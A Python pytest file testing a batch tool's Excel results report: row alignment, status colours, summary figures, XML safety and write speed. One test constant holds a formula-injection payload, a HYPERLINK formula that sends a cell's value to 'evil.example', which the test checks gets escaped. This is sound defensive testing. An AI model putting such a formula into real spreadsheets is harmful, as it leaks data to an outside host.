"""results.xlsx: input sheets as given with result columns, rows on their Excel rows, status colours,
safe and well-formed cells, a summary sheet; and fast enough for a 20,000-user run."""

from __future__ import annotations

import time
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import polars as pl
import pytest

from batch.jobs import CREATED, EXISTS, FAILED, INVALID, PENDING, PLANNED, REMOVED, SKIPPED, UNDONE, UPDATED, RowResult
from batch.load.inputs import LoadedBatch, load_inputs
from batch.report.aligned import align_results, row_keys
from batch.report.summary import build_summary
from batch.report.writer import write_reports
from batch.report.xlsx import STATUS_COLOURS, _text_bytes, write_results_xlsx
from tests.builders import input_sheets, sheet_rows, write_csv_folder, write_workbook

STARTED = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HEADERS = ["Customer External ID", "E-mail", "First Name", "Last Name", "Package", "Phone"]
KEYS = ["customer_external_id", "email", "first_name", "last_name", "package", "phone_number"]
#: Excel row → (status, first name); row 3 is blank in the input.
PEOPLE = {
    2: (CREATED, "Aino"),
    4: (FAILED, "Eero"),
    5: (INVALID, INJECTION),
    6: (SKIPPED, "Ville"),
    7: (PLANNED, "Helmi"),
    8: (EXISTS, "Onni"),
}


def _users_workbook(path: Path) -> LoadedBatch:
    """A users sheet with the partner's own header spellings and a blank Excel row 3."""
    rows: list[list] = [HEADERS]
    for excel_row, (_, first) in PEOPLE.items():
        while len(rows) < excel_row - 1:
            rows.append([])
        phone = f"+358 40 123 45{excel_row:02}"
        rows.append(["FI-1", f"{excel_row}@example.fi", first, "Mäkelä", "webex_calling", phone])
    sheets = input_sheets() | {"users": rows}
    return load_inputs([write_workbook(path, sheets)])


def _results(loaded: LoadedBatch) -> list[RowResult]:
    users = loaded.sheets["users"].frame
    out = []
    for row, key in zip(users["_row"], row_keys(loaded.sheets["users"]), strict=True):
        status = PEOPLE[row][0]
        failed = status == FAILED
        out.append(
            RowResult(
                "users",
                row,
                key,
                status,
                message="Webex said <no> & that's final" if failed else "",
                ids={"subscriber_id": f"sub-{row}", "person_id": f"per-{row}"} if status in (CREATED, EXISTS) else {},
                error_code=4003 if failed else None,
                tracking_id="ROUTER_X" if failed else None,
                attempts=3 if failed else 1,
            )
        )
    return out


def _summary(results: list[RowResult]) -> dict:
    return build_summary(results, api={"requests": 12, "retries": 2}, wall_seconds=4.0, started=STARTED, command="run")


def _rgb(cell: openpyxl.cell.Cell) -> str:
    return (cell.fill.fgColor.rgb or "")[-6:]


def test_input_sheet_with_result_columns_on_its_own_excel_rows(tmp_path: Path) -> None:
    loaded = _users_workbook(tmp_path / "in.xlsx")
    results = _results(loaded)
    paths = write_reports(tmp_path / "out", loaded, results, _summary(results))
    book = openpyxl.load_workbook(paths.results_xlsx)
    assert book.sheetnames == ["summary", "users"]  # sheets without rows are left out
    ws = book["users"]
    header = [c.value for c in ws[1]]
    assert header == [
        *HEADERS,
        "status",
        "message",
        "reason",
        "http_status",
        "subscriber_id",
        "person_id",
        "error_code",
        "tracking_id",
        "attempts",
    ]
    col = {name: i + 1 for i, name in enumerate(header)}
    assert all(ws.cell(3, c).value is None for c in col.values())  # the blank input row stays blank
    assert ws.cell(2, col["E-mail"]).value == "2@example.fi"
    assert ws.cell(2, col["subscriber_id"]).value == "sub-2"
    assert ws.cell(4, col["status"]).value == FAILED
    assert ws.cell(4, col["message"]).value == "Webex said <no> & that's final"
    assert (ws.cell(4, col["error_code"]).value, ws.cell(4, col["attempts"]).value) == (4003, 3)
    assert ws.cell(4, col["tracking_id"]).value == "ROUTER_X"
    assert ws.cell(5, col["First Name"]).value == "'" + INJECTION
    assert ws.cell(5, col["Phone"]).value == "+358 40 123 4505"  # a phone number is not a formula
    for excel_row, (status, _) in PEOPLE.items():
        assert ws.cell(excel_row, col["status"]).value == status
        assert _rgb(ws.cell(excel_row, col["E-mail"])) == STATUS_COLOURS[status][1:]
        # blank cells of the row are coloured too (row style), e.g. an empty message
        assert (ws.row_dimensions[excel_row].fill.fgColor.rgb or "")[-6:] == STATUS_COLOURS[status][1:]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}8"


def test_summary_sheet_counts_and_figures(tmp_path: Path) -> None:
    loaded = _users_workbook(tmp_path / "in.xlsx")
    results = _results(loaded)
    paths = write_reports(tmp_path / "out", loaded, results, _summary(results))
    ws = openpyxl.load_workbook(paths.results_xlsx)["summary"]
    table = [list(row) for row in ws.iter_rows(values_only=True)]
    header = table[0]
    assert header[:2] == ["sheet", "rows"]
    users = dict(zip(header, table[1], strict=True))
    counts = {CREATED: 1, EXISTS: 1, FAILED: 1, SKIPPED: 1, INVALID: 1, PLANNED: 1}
    counts |= dict.fromkeys((UPDATED, REMOVED, PENDING, UNDONE), 0)
    assert users == {"sheet": "users", "rows": 6, **counts}
    assert table[2][:3] == ["total", 6, 1]
    figures = {row[0]: row[1] for row in table[3:] if row[0]}
    assert figures["API requests"] == 12 and figures["retries"] == 2
    assert figures["exit code"] == 1 and figures["rows to retry"] == 3
    assert figures["wall seconds"] == 4
    legend = {row[0].value: _rgb(row[0]) for row in ws.iter_rows() if row[0].value in STATUS_COLOURS}
    assert legend == {status: colour[1:] for status, colour in STATUS_COLOURS.items()}


def test_cells_are_well_formed_xml_whatever_they_hold(tmp_path: Path) -> None:
    loaded = _users_workbook(tmp_path / "in.xlsx")
    nasty = "<b>bold</b> & \x01bell\x0b _x0041_ ünïcödé\nline two  "
    results = [RowResult(r.sheet, r.row, r.key, FAILED, message=nasty) for r in _results(loaded)]
    aligned = align_results(loaded, results)
    path = write_results_xlsx(aligned, _summary(results), tmp_path / "results.xlsx")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                ElementTree.fromstring(archive.read(name))  # raises on malformed XML
    ws = openpyxl.load_workbook(path)["users"]
    message = ws.cell(2, len(HEADERS) + 2).value
    assert message.startswith("<b>bold</b> & bell")  # markup kept as text, control characters dropped
    assert "ünïcödé\nline two  " in message


def test_merged_inputs_are_listed_in_order_with_row_and_source(tmp_path: Path) -> None:
    people = [[{"customer_external_id": "FI-1", "email": f"{w}{i}@example.fi"} for i in range(2)] for w in "ab"]
    first = write_csv_folder(tmp_path / "a", input_sheets(users=people[0]))
    second = write_csv_folder(tmp_path / "b", input_sheets(users=people[1]))
    loaded = load_inputs([first, second])
    frame = loaded.sheets["users"].frame
    results = [RowResult("users", r, e, CREATED) for r, e in zip(frame["_row"], frame["email"], strict=True)]
    paths = write_reports(tmp_path / "out", loaded, results, _summary(results))
    ws = openpyxl.load_workbook(paths.results_xlsx)["users"]
    header = [c.value for c in ws[1]]
    row_col, source_col = header.index("row") + 1, header.index("source") + 1
    email_col = header.index("email") + 1
    listed = [(ws.cell(r, email_col).value, ws.cell(r, row_col).value) for r in range(2, 6)]
    assert listed == [("a0@example.fi", 2), ("a1@example.fi", 3), ("b0@example.fi", 2), ("b1@example.fi", 3)]
    assert ws.cell(4, source_col).value.endswith("users.csv") and "/b/" in ws.cell(4, source_col).value


def test_large_sheet_keeps_only_rows_that_need_attention(tmp_path: Path) -> None:
    users = [{"customer_external_id": "FI-1", "email": f"u{i}@example.fi"} for i in range(10)]
    loaded = load_inputs([write_workbook(tmp_path / "in.xlsx", input_sheets(users=users))])
    frame = loaded.sheets["users"].frame
    results = [
        RowResult("users", r, e, FAILED if r in (4, 9) else CREATED, message=f"row {r}")
        for r, e in zip(frame["_row"], frame["email"], strict=True)
    ]
    path = write_results_xlsx(
        align_results(loaded, results), _summary(results), tmp_path / "r.xlsx", full_sheet_limit=5
    )
    book = openpyxl.load_workbook(path)
    ws = book["users"]
    email_col = [c.value for c in ws[1]].index("email") + 1
    kept = {r: ws.cell(r, email_col).value for r in range(2, 12) if ws.cell(r, email_col).value}
    assert kept == {4: "u2@example.fi", 9: "u7@example.fi"}  # still on their own Excel rows
    notes = [row[1] for row in book["summary"].iter_rows(values_only=True) if row[0] == "note"]
    assert notes and "users: 10 rows" in notes[0] and "2 rows that need attention" in notes[0]


def test_header_spelling_kept_for_csv_input_too(tmp_path: Path) -> None:
    rows = sheet_rows("users", [dict(zip(HEADERS, ["FI-1", "a@example.fi", "Aino"], strict=False))], HEADERS)
    loaded = load_inputs([write_csv_folder(tmp_path / "in", input_sheets() | {"users": rows}, separator=";")])
    results = [RowResult("users", 2, "a@example.fi", CREATED)]
    paths = write_reports(tmp_path / "out", loaded, results, _summary(results))
    assert [c.value for c in openpyxl.load_workbook(paths.results_xlsx)["users"][1]][: len(HEADERS)] == HEADERS


@pytest.mark.slow
def test_twenty_thousand_users_written_well_under_two_seconds(tmp_path: Path) -> None:
    from bench.generate import make_batch
    from bench.generate import write_csv_folder as write_bench

    folder = tmp_path / "batch"
    write_bench(make_batch(300, 900, 20_000), folder)
    loaded = load_inputs([folder])
    results = [
        RowResult(name, row, key, CREATED if i % 50 else FAILED, ids={"subscriber_id": "Y2lzY29zcGFyazovL3VzL1NVQg"})
        for name, sheet in loaded.sheets.items()
        for i, (row, key) in enumerate(zip(sheet.frame["_row"], row_keys(sheet), strict=True))
    ]
    aligned = align_results(loaded, results)
    start = time.perf_counter()
    write_results_xlsx(aligned, _summary(results), tmp_path / "results.xlsx")
    elapsed = time.perf_counter() - start
    assert len(results) > 21_000
    assert elapsed < 1.0, f"results.xlsx took {elapsed:.2f} s for {len(results)} rows"


def test_a_categorical_columns_text_is_sized_as_the_same_text_column() -> None:
    """The size that decides ZIP64 is counted from a categorical's distinct values, not by making it text."""
    text = pl.DataFrame({"location": ["Pääkonttori", None, "Tampere", "Pääkonttori"], "n": [1, 2, 3, 4]})
    assert _text_bytes(text) == 2 * len("Pääkonttori".encode()) + len("Tampere") > 0
    assert _text_bytes(text.with_columns(pl.col("location").cast(pl.Categorical))) == _text_bytes(text)
